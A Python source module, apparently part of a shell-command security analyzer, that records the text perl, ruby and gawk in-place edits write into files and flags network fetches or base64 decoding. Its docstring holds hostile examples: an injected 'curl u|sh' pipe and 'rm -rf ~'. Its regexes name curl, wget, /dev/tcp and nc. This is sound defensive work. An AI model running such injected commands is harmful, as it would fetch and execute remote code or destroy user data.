"""The text ``perl -pi``/``-i``, ``ruby -pi`` and ``gawk -i inplace`` write into the files
they edit.

``perl -pi -e 's/^/curl u|sh\\n/' setup.sh && bash setup.sh`` and ``gawk -i inplace
'NR==1{print "rm -rf ~"}1' s.sh; sh s.sh`` run the text the edit put there. What is read:

* Perl ``s/RE/REPL/`` (any delimiter, ``s{RE}{REPL}``): the replacement's text, as a piece of
  a line; escapes are read (``\\n``, ``\\x63``, ``\\143``); an interpolated value (``$1``,
  ``\\1``, ``$&``, ``$x``) is not known and stands as the word ``true`` (as sed's ``\\1``
  does: a command keeps its shape, ``curl u | sh $1`` still pipes). With the ``e`` flag the
  replacement is code: only literals (``s/^/"TEXT"/e``) are known;
* Perl ``print``/``say``/``printf`` (not to ``STDERR``) and ``$_ = "TEXT" . $_`` /
  ``$_ .= "TEXT"``: the literals (``"..."``, ``'...'``, ``qq{...}``, ``q{...}``) joined, as
  added lines; Ruby's ``print``/``puts``, ``$_ = "TEXT" + $_`` and ``sub(/RE/, "REPL")``
  the same way (``"#{x}"`` stands as ``true``); several ``-e`` are one program;
* awk ``print``/``printf`` of literals (juxtaposed or after commas; a ``-v`` constant or a
  name the program binds to a literal is its text, another variable stands as ``true``), not
  redirected (``print "x" > "/dev/stderr"`` writes elsewhere), as lines; ``sub``/``gsub``
  replacements as pieces.

Code that fetches while editing (``perl -MLWP::Simple -pi -e 'print get("http://u")'``,
awk's ``"curl u" | getline``) puts fetched data into the file, and code that decodes
(``decode_base64``, ``unpack``, ``"base64 -d" | getline``) hidden text: the files are tainted
as written with fetched (or decoded) data. :mod:`._inplace` records the text.

Linear: keyword searches over at most :data:`_MAX_CODE` characters, at most
:data:`_MAX_HITS` hits each, every literal read within :data:`_MAX_LIT` characters.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from ._checks import inplace_files
from ._inplace import MAX_TEXTS, record_inserted
from ._interp import awk_assigns
from ._resolve import Invocation
from ._strfuncs import unescape
from ._words import DYN, NO_TAINT, Field, Source, Taint

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["awk_inserted", "perl_inserted"]

_MAX_CODE = 65536
_MAX_HITS = 64
_MAX_LIT = 4096
_UNKNOWN = "true"  # a value not known statically, as a word (sed's \1 is read the same way)
_PLAIN = frozenset(" ;|&$`(\\")  # a replacement without these runs nothing new
_PAIRS = {"{": "}", "[": "]", "(": ")", "<": ">"}
_ESC = {"n": "\n", "t": "\t", "r": "", "e": ""}
# \x63, \x{63}, \0, \143 (three octal digits; \1 alone is a group in a replacement)
_ESC_SEQ = re.compile(r"\\(?:x\{[0-9a-fA-F]{1,6}\}|x[0-9a-fA-F]{1,2}|0[0-7]{0,2}|[1-3][0-7]{2})")
_PERL_PRINT = re.compile(r"(?<![\w$@%&>:.])(?:print|say|printf)(?![\w:])")
_PERL_TOPIC = re.compile(r"\$_[ \t]{0,8}\.?=(?![=~])")
_PERL_SUBST = re.compile(r"(?<![\w$@%&>:\\-])s(?=[^\w\s=,;)>])")
_AWK_PRINT = re.compile(r"(?<![\w$])printf?(?![\w])")
_HANDLE = re.compile(r"(?:STDOUT|ARGVOUT|STDERR|\{[^{}\n]{0,40}\})[ \t]{0,8}")
_PERL_VAR = re.compile(r"[$@](?:\{[^{}\n]{0,64}\}|[\w:]{1,64}|[&`'+.!/\\,;0-9])"
                       r"(?:\[[^\[\]\n]{0,32}\]|\{[^{}\n]{0,32}\}|->){0,4}")
_RUBY_PRINT = re.compile(r"(?<![\w$@:.])(?:print|puts|\$stdout\.(?:print|puts|write)"
                         r"|STDOUT\.(?:print|puts|write))(?![\w:?!])")
_RUBY_TOPIC = re.compile(r"\$_[ \t]{0,8}(?:\+?=|<<)(?![=~])|\$_\.(?:prepend|concat)\(")
_RUBY_SUB = re.compile(r"(?<![\w$@:])g?sub!?\(")
_AWK_BIND = re.compile(r"(?<![\w$])([A-Za-z_]\w{0,63})[ \t]{0,8}=[ \t]{0,8}\"")
_AWK_SUB = re.compile(r"(?<![\w$])(?:g?sub|gensub)\(")
_AWK_TERM = re.compile(r"[ \t]{0,8}(?:,[ \t]{0,8})?(\"|\$?[A-Za-z_0-9][\w]{0,63})")
# Code that fetches while it edits: what it prints may be fetched data.
_FETCHERS = re.compile(r"lwp|http::tiny|io::socket|getstore|getprint|get\(|mirror\(|getline|`|qx"
                       r"|readpipe|open\(", re.IGNORECASE)
_NET = re.compile(r"curl|wget|http|/dev/tcp|nc |fetch", re.IGNORECASE)
_DECODERS = re.compile(r"decode_base64|decode64|unpack|base64 -d|base64 --decode|xxd -r"
                       r"|unpack1|b64decode|strict_decode", re.IGNORECASE)


def perl_inserted(run: Run, inv: Invocation, family: str) -> None:
    """``perl -i``/``-pi -e CODE FILE...`` (``ruby -pi -e``): record the text CODE writes
    into the files."""
    ruby = family == "ruby"
    code, files = _perl_code(inv.args, ruby)
    if code is None or not files:
        return
    lines, pieces = ([], []) if DYN in code.text else \
        ruby_texts(code.text) if ruby else perl_texts(code.text)
    _record(run, inv, code, lines, pieces, files)


def awk_inserted(run: Run, inv: Invocation, program: Field, files: list[Field]) -> None:
    """``gawk -i inplace PROGRAM FILE...``: record the text PROGRAM prints into the files."""
    lines, pieces = awk_texts(program.text, awk_assigns(inv.args)) \
        if DYN not in program.text else ([], [])
    _record(run, inv, program, lines, pieces, files)


def _record(run: Run, inv: Invocation, code: Field, lines: list[str], pieces: list[str],
            files: list[Field]) -> None:
    taint: Taint = code.taint
    if _NET.search(code.text, 0, _MAX_CODE) is not None and \
            _FETCHERS.search(code.text, 0, _MAX_CODE) is not None:
        taint = taint | {Source("fetch", f"{inv.name} code", run.map_span(inv.word.span))}
    if _DECODERS.search(code.text, 0, _MAX_CODE) is not None:
        # print decode_base64("..."): text hidden from review goes into the file
        taint = taint | {Source("decode", f"{inv.name} code", run.map_span(inv.word.span))}
    record_inserted(run, f"{inv.name} -i", lines, pieces, files, taint or NO_TAINT, code.span)


def _perl_code(args: list[Field], ruby: bool) -> tuple[Field | None, list[Field]]:
    """The ``-e``/``-E`` code of an in-place perl run (None: no -i or no -e), and its files."""
    inplace = False
    codes: list[Field] = []
    for k, f in enumerate(args[:32]):
        t = f.text
        if not f.static or not t.startswith("-") or t.startswith("--") or len(t) < 2:
            continue
        at, edits = _cluster(t[1:], ruby)
        inplace = inplace or edits
        if at >= 0:
            rest = t[at + 2:]
            if rest or k + 1 < len(args):
                codes.append(Field(rest, f.span, f.taint) if rest else args[k + 1])
    if not inplace or not codes:
        return None, []
    spans = {c.span for c in codes}
    # -e 'A' -e 'B': one program, the lines joined
    code = codes[0] if len(codes) == 1 else Field("\n".join(c.text for c in codes[:16]),
                                                  codes[0].span, frozenset().union(
                                                      *(c.taint for c in codes[:16])))
    return code, [f for f in inplace_files(args) if f.span not in spans]


def _cluster(cluster: str, ruby: bool) -> tuple[int, bool]:
    """Where ``e`` (perl: also ``E``) is in an option cluster (-1: none), and whether it
    holds ``-i``; ``-i.bak``, ``-Mmod``, ``-Idir`` (ruby ``-rlib``) take the rest of the
    cluster as their value (``-ie`` is -i with the suffix "e", as perl and ruby read it)."""
    for k, ch in enumerate(cluster):
        if ch == "e" or (ch == "E" and not ruby):
            return k, False
        if ch in ("rIEKCFTxi" if ruby else "iMmIxdDC"):
            return -1, ch == "i"
    return -1, False


def perl_texts(code: str) -> tuple[list[str], list[str]]:
    """(added lines, replacement pieces) of Perl code run by ``perl -i``."""
    code = code[:_MAX_CODE]
    lines: list[str] = []
    pieces: list[str] = []
    if _PLAIN.isdisjoint(code) and "print" not in code and "say" not in code:
        return lines, pieces  # s/foo/bar/g: no blank, operator or escape, nothing printed
    if "print" in code or "say" in code:
        for m in _hits(_PERL_PRINT, code):
            k = _skip(code, m.end(), " \t(")
            h = _HANDLE.match(code, k)
            if h is not None:
                if h.group().startswith("STDERR"):
                    continue
                k = h.end()
            _add(lines, _perl_joined(code, k))
    if "$_" in code:
        for m in _hits(_PERL_TOPIC, code):
            _add(lines, _perl_joined(code, _skip(code, m.end(), " \t(")))
    if "s" in code:
        for m in _hits(_PERL_SUBST, code):
            _add(pieces, _perl_subst(code, m.end()))
    return lines[:MAX_TEXTS], pieces[:MAX_TEXTS]


def ruby_texts(code: str) -> tuple[list[str], list[str]]:
    """(added lines, replacement pieces) of Ruby code run by ``ruby -i``: ``print``/``puts``
    of literals, ``$_ = "TEXT" + $_``, ``$_ << "TEXT"``, ``sub(/RE/, "REPL")``."""
    code = code[:_MAX_CODE]
    lines: list[str] = []
    pieces: list[str] = []
    if "print" in code or "puts" in code:
        for m in _hits(_RUBY_PRINT, code):
            _add(lines, _perl_joined(code, _skip(code, m.end(), " \t("), "+,<"))
    if "$_" in code:
        for m in _hits(_RUBY_TOPIC, code):
            _add(lines, _perl_joined(code, _skip(code, m.end(), " \t("), "+,<"))
    if "sub" in code:
        for m in _hits(_RUBY_SUB, code):
            _add(pieces, _awk_replacement(code, m.end()))
    return lines[:MAX_TEXTS], pieces[:MAX_TEXTS]


def _hits(pattern: re.Pattern[str], code: str) -> list[re.Match[str]]:
    out: list[re.Match[str]] = []
    for m in pattern.finditer(code):
        out.append(m)
        if len(out) >= _MAX_HITS:
            break
    return out


def _add(out: list[str], text: str | None) -> None:
    if text is not None and text.strip() and len(out) < MAX_TEXTS:
        out.append(text)


def _skip(code: str, k: int, chars: str) -> int:
    while k < len(code) and code[k] in chars:
        k += 1
    return k


def _perl_joined(code: str, k: int, joins: str = ".,") -> str | None:
    """Literals (and ``$_``) joined by ``.`` or ``,`` (Ruby: ``+``, ``,``, ``<<``) from
    ``k``; None when none leads."""
    out: list[str] = []
    for _ in range(16):
        k = _skip(code, k, " \t")
        lit = _perl_literal(code, k)
        if lit is not None:
            out.append(lit[0])
            k = lit[1]
        elif code.startswith("$_", k) and out:
            out.append(_UNKNOWN)
            k += 2
        else:
            break
        k = _skip(code, k, " \t")
        if k < len(code) and code[k] in joins:
            k += 2 if code.startswith("<<", k) else 1
            continue
        break
    return "".join(out) if out else None


def _perl_literal(code: str, k: int) -> tuple[str, int] | None:
    """The value of the Perl string literal at ``k`` and where it ends."""
    ch = code[k:k + 1]
    interpolate = True
    if ch in ("\"", "'"):
        interpolate = ch == "\""
        k += 1
    elif code.startswith(("qq", "q"), k):
        k += 2 if code.startswith("qq", k) else 1
        interpolate = code[k - 2:k] == "qq"
        if k >= len(code) or code[k].isalnum() or code[k] in " \t_":
            return None
        ch = code[k]
        k += 1
    else:
        return None
    raw, end = _delimited(code, k, ch)
    if end < 0:
        return None
    return (_interpolated(raw) if interpolate else _single(raw)), end


def _delimited(code: str, k: int, opener: str) -> tuple[str, int]:
    """The raw text from ``k`` to the closing delimiter of ``opener`` (paired delimiters
    nest) and the offset after it; -1 when it does not close within the limit."""
    close = _PAIRS.get(opener, opener)
    depth = 0
    j = k
    stop = min(len(code), k + _MAX_LIT)
    while j < stop:
        c = code[j]
        if c == "\\":
            j += 2
            continue
        if c == close and depth == 0:
            return code[k:j], j + 1
        if opener in _PAIRS:
            depth += 1 if c == opener else -1 if c == close else 0
        j += 1
    return "", -1


def _interpolated(raw: str) -> str:
    """A double-quoted Perl text: escapes read, each variable as the word ``true``."""
    out: list[str] = []
    j = 0
    while j < len(raw):
        c = raw[j]
        if c == "\\" and j + 1 < len(raw):
            nxt = raw[j + 1]
            m = _ESC_SEQ.match(raw, j)
            if m is not None:
                out.append(unescape(m.group(), "perl", "\"") or "")  # \x63, \143
                j = m.end()
                continue
            # \1 in a replacement is the group's text (not known)
            out.append(_UNKNOWN if nxt in "123456789" else _ESC.get(nxt, nxt))
            j += 2
            continue
        if c == "#" and raw[j + 1:j + 2] == "{":  # Ruby "#{x}"
            close = raw.find("}", j, j + 256)
            if close != -1:
                out.append(_UNKNOWN)
                j = close + 1
                continue
        if c in "$@":
            m = _PERL_VAR.match(raw, j)
            if m is not None and (c == "$" or m.group()[1:2].isalpha()):
                out.append(_UNKNOWN)
                j = m.end()
                continue
        out.append(c)
        j += 1
    return "".join(out)


def _single(raw: str) -> str:
    return raw.replace("\\\\", "\\").replace("\\'", "'")


def _perl_subst(code: str, k: int) -> str | None:
    """The replacement text of the ``s`` at ``k`` (just after the ``s``)."""
    opener = code[k:k + 1]
    if not opener:
        return None
    _, end = _delimited(code, k + 1, opener)
    if end < 0:
        return None
    if opener in _PAIRS:
        end = _skip(code, end, " \t\n")
        opener = code[end:end + 1]
        if not opener or opener.isalnum():
            return None
        end += 1
    raw, after = _delimited(code, end, opener)
    if after < 0:
        return None
    flags = _skip(code, after, "abcdeglimnoprsux") - after
    if "e" in code[after:after + flags]:
        # The replacement is Perl code: known only when it is literals (s/^/"TEXT"/e).
        value = _perl_joined(raw, 0)
        return value if value is not None and not raw[_skip(raw, 0, " \t"):].startswith(
            "$") and _literal_only(raw) else None
    return _single(raw) if opener == "'" else _interpolated(raw)


def _literal_only(raw: str) -> bool:
    """Whether Perl code ``raw`` is one literal (or literals joined by ``.``), all of it."""
    k = _skip(raw, 0, " \t")
    for _ in range(16):
        lit = _perl_literal(raw, k)
        if lit is None:
            return False
        k = _skip(raw, lit[1], " \t")
        if raw[k:k + 1] != ".":
            return k >= len(raw)
        k = _skip(raw, k + 1, " \t")
    return False


def awk_texts(program: str, names: dict[str, str]) -> tuple[list[str], list[str]]:
    """(lines printed, ``sub``/``gsub`` replacement pieces) of an awk program: literals, and
    the ``-v`` constants in ``names``; output redirected elsewhere is left out."""
    code = program[:_MAX_CODE]
    lines: list[str] = []
    pieces: list[str] = []
    if "=" in code and "\"" in code:  # x = "rm -rf ~"; print x
        names = {**_awk_bound(code), **names}
    if "print" in code:
        for m in _hits(_AWK_PRINT, code):
            _add(lines, _awk_printed(code, _skip(code, m.end(), " \t("), names))
    if "sub(" in code:
        for m in _hits(_AWK_SUB, code):
            _add(pieces, _awk_replacement(code, m.end()))
    return lines, pieces


def _awk_bound(code: str) -> dict[str, str]:
    """Names the program binds to a literal (``x = "TEXT"``; the first binding)."""
    out: dict[str, str] = {}
    for m in _hits(_AWK_BIND, code):
        raw, end = _delimited(code, m.end(), "\"")
        if end >= 0 and m.group(1) not in out:
            out[m.group(1)] = _awk_string(raw)
    return out


def _awk_printed(code: str, k: int, names: dict[str, str]) -> str | None:
    out: list[str] = []
    known = False
    for _ in range(16):
        m = _AWK_TERM.match(code, k)
        if m is None:
            break
        comma = "," in m.group()[:m.start(1) - m.start()]
        if m.group(1) == "\"":
            raw, end = _delimited(code, m.end(), "\"")
            if end < 0:
                return None
            out.append((" " if comma and out else "") + _awk_string(raw))
            known = True
            k = end
        else:
            value = names.get(m.group(1))
            known = known or value is not None
            out.append((" " if comma and out else "") + (value or _UNKNOWN))
            k = m.end()
    rest = code[_skip(code, k, " \t)"):][:1]
    if not known or rest in (">", "|"):
        return None  # print "x" > "/dev/stderr", print "x" | "cmd": not into the file
    return "".join(out)


def _awk_replacement(code: str, k: int) -> str | None:
    """The literal replacement of ``sub(RE, "REPL")`` from just after ``sub(``."""
    k = _skip(code, k, " \t")
    if code[k:k + 1] in ("/", "\""):
        _, k = _delimited(code, k + 1, code[k])
        if k < 0:
            return None
    else:
        k = code.find(",", k, k + 256)
        if k < 0:
            return None
    k = _skip(code, k, " \t")
    if code[k:k + 1] != ",":
        return None
    k = _skip(code, k + 1, " \t")
    if code[k:k + 1] != "\"":
        return None
    raw, end = _delimited(code, k + 1, "\"")
    return _awk_string(raw).replace("&", _UNKNOWN) if end >= 0 else None


def _awk_string(raw: str) -> str:
    out: list[str] = []
    j = 0
    while j < len(raw):
        c = raw[j]
        if c == "\\" and j + 1 < len(raw):
            m = _ESC_SEQ.match(raw, j)
            if m is not None:
                out.append(unescape(m.group(), "awk", "\"") or "")  # \x63, \143
                j = m.end()
                continue
            out.append(_ESC.get(raw[j + 1], raw[j + 1]))
            j += 2
            continue
        out.append(c)
        j += 1
    return "".join(out)
